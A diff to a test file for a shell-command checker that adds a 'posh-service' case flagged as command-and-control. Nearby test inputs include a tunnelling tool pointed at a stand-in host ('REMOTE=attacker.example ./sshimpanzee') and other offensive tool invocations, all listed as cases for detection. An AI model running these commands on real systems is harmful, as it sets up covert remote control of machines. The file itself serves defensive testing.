@@ -6348,7 +6348,7 @@ describe('checkCommand on the 622nd, 624th and 625th, tuned on: make functions i
   });
 });
 
-describe('checkCommand on the twenty read, and the 636th, 638th, 641st, 643rd, 644th, 646th, 651st, 656th, 658th, 659th, 663rd, 665th, 667th, 671st, 673rd, 677th, 679th, 682nd and 685th: ansible ad-hoc, centralised version control, a robot graph, system keyrings and settings', () => {
+describe('checkCommand on the twenty read, and the 636th, 638th, 641st, 643rd, 644th, 646th, 651st, 656th, 658th, 659th, 663rd, 665th, 667th, 671st, 673rd, 677th, 679th, 682nd, 685th, 687th and 690th: ansible ad-hoc, centralised version control, a robot graph, system keyrings and settings', () => {
   it.each([
     // An ansible ad-hoc command runs its module on the inventory's hosts; a controller-side module and the listings touch none.
     ['ansible db -b -m dnf -a "name=mariadb-server state=present"', true, 'ansible db -m dnf'],
@@ -6393,6 +6393,7 @@ describe('checkCommand on the twenty read, and the 636th, 638th, 641st, 643rd, 6
     ['discoursemap -u https://forum.example.com --fast', true],
     ['slackhell run', true],
     ['MODE=dns REMOTE=attacker.example ./sshimpanzee', true, 'command-and-control'],
+    ['posh-service', true, 'command-and-control'],
     // A gitolite server's setup and compiles; a live sniffer, a capture's logins, a card's address, Gentoo's overlays.
     ['gitolite setup -pk YourName.pub', true, 'gitolite server'],
     ['gitolite info', false],
